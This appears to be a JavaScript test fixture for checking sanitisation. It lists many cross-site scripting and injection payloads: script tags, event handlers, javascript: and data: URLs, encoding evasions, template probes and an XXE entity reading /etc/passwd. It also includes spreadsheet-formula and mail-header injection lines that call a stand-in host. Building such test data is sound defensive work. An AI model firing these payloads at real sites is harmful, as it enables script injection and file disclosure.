// Texts that try to run a script on a page that shows them, in every way of writing that we know. Whatever runs sets `hit`, asks for
// a picture of another host, or opens a dialog.
const RUN = "window.hit=1";
const PICTURE = "//elsewhere.example/p";

const schemes = ["javascript", "JaVaScRiPt", "java\tscript", "java\nscript", " javascript", "\u0001javascript", "java\u0000script", "vbscript", "data", "blob", "view-source"];
const address = (scheme) => (scheme === "data" ? `data:text/html,<script>parent.${RUN}</script>` : `${scheme}:${RUN}//`);

export const STRINGS = [
  // Elements
  `<script>${RUN}</script>`,
  `</title></textarea></style></template></noscript></script><script>${RUN}</script>`,
  `<ScRiPt src=${PICTURE}.js></sCrIpT >`,
  `<<script>${RUN}//<</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=${PICTURE}.png>`,
  `"><svg/onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><style><img src=x onerror=${RUN}></style></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<base href="${PICTURE}"><link rel=stylesheet href="${PICTURE}.css"><meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<details open ontoggle=${RUN}><video><source onerror=${RUN}></video><body onload=${RUN}>`,
  `<form action="javascript:${RUN}"><button>x</button></form><input autofocus onfocus=${RUN}>`,
  // Attributes
  `" onmouseover="${RUN}" autofocus tabindex=1 onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}' autofocus tabindex=1 onfocus='${RUN}' x='`,
  `x onpointerenter=${RUN} style=animation-name:x onanimationstart=${RUN}`,
  `\`onclick=${RUN}\``,
  // Comments, sections and declarations
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script><![CDATA[`,
  `<?xml-stylesheet href="javascript:${RUN}"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${RUN}</x:script>`,
  // Written otherwise
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62; &#x3c;svg onload=${RUN}&#x3e;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e \\x3cscript\\x3e %3Cscript%3E${RUN}%3C/script%3E`,
  `\u{ff1c}script\u{ff1e}${RUN}\u{ff1c}/script\u{ff1e} \u2039script\u203a`,
  `<scr\u00adipt>${RUN}</scr\u200bipt> <img\u000csrc=x\u000conerror=${RUN}>`,
  `\u202e<script>${RUN}</script>\u202c \u2028<script>${RUN}</script>\u2029`,
  `<s\u0000cript>${RUN}</s\u0000cript>`,
  // Data that scripts read
  `</script><script type="application/ld+json">{</script><script>${RUN}</script>`,
  `"}]}</script><img src=x onerror=${RUN}>{"a":[{"b":"`,
  `<!--<script>${RUN}`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${RUN}>"}}`,
  // Templates and substitution
  `{{ 7*7 }}{% include "/etc/passwd" %}{# x #}{{ __tera_context | safe }}`,
  `\${${RUN}} <%= ${RUN} %> #{${RUN}} {date} {first} {days} $& $1 %s`,
  `{{constructor.constructor('${RUN}')()}}[[${RUN}]]`,
  // Styles
  `</style><style>@import "${PICTURE}.css";*{background:url(${PICTURE}.png)}</style>`,
  `red;background:url(${PICTURE}.png);x:expression(${RUN})`,
  // Markdown
  `![x](x "onerror=${RUN}") ![x](${PICTURE}.png) [![x](javascript:${RUN})](/)`,
  `[x](https://a.example/"onclick="${RUN}) [x](https://a.example 'a" onclick="${RUN}')`,
  `<https://a.example/"onclick="${RUN}"> <javascript:${RUN}> <a@b.example?"onclick="${RUN}>`,
  `[x][1] and [1]\n\n[1]: javascript:${RUN} "x"`,
  `# x {onclick=${RUN} #"onclick="${RUN} .a"b}\n\n\`\`\`"><script>${RUN}</script>\nx\n\`\`\``,
  `| a |\n|:-:|\n| <img src=x onerror=${RUN}> |\n\n[^1]\n\n[^1]: <script>${RUN}</script>`,
  schemes.map((scheme) => `[link](<${address(scheme)}>)`).join(" "),
  schemes.map(address).join(" "),
  `[link](&#106;avascript:${RUN}) [link](javascript&colon;${RUN}) [link](&#x6a&#x61vascript:${RUN}) [link](java&Tab;script:${RUN}) [link](%6aavascript:${RUN})`,
  // Tables, calendars and head lines of a mail
  `=HYPERLINK("${PICTURE}","x")`,
  `a\r\nATTACH:javascript:${RUN}\r\nBcc: x@elsewhere.example\r\n\r\n<script>${RUN}</script>`,
];

// The same as addresses, where the program asks for one.
export const ADDRESSES = [
  `javascript:${RUN}`,
  `https://x.example/"><script>${RUN}</script>/`,
  `https://x.example/" onclick="${RUN}/`,
  `https://x.example/'onclick='${RUN}'/`,
  `https://x.example/</script><script>${RUN}</script>/`,
  `https://x.example/%22%3E%3Cscript%3E${RUN}%3C/script%3E/`,
  `https://x.example/<!--/`,
  `https://x.example/?q=<script>${RUN}</script>`,
  `https://x.example/#<img src=x onerror=${RUN}>`,
  `https://user:"><img src=x onerror=${RUN}>@x.example/`,
  `https://"><svg onload=${RUN}>/`,
  `https://x.example/;${RUN}//`,
  `https://x.example/&quot;onclick=${RUN}&quot;/`,
  `https://x.example/../../{{7*7}}/`,
  `https://x.example/\u2028<script>${RUN}</script>/`,
  `https://x.example\\@elsewhere.example/`,
  `data:text/html,<script>${RUN}</script>`,
  `//elsewhere.example/`,
];
